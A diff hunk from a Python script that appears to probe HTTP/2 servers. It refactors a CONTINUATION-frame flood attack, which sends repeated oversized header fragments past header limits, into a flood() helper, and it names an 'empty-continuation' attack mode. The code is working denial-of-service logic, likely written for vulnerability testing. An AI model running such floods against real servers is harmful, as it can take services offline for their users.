@@ -203,15 +203,9 @@ def main():
         # literal field, past any header list limit.
         p = Probe(host, port)
         p.send(p.headers(1, end_headers=False))
-        field = Encoder().encode([("x-flood", "v" * 100)])
-        sent = 0
-        while sent < n and not p.closed and not p.send_failed and p.goaway is None:
-            f = ContinuationFrame(1)
-            f.data = field
-            p.send(f.serialize() * 50)
-            sent += 50
-            p.read(0.001)
-        out["sent"] = sent
+        f = ContinuationFrame(1)
+        f.data = Encoder().encode([("x-flood", "v" * 100)])
+        out["sent"] = flood(p, f.serialize(), n, batch=50)
         p.read(5, until=lambda: p.goaway is not None)
     elif attack == "empty-continuation":
         p = Probe(host, port)
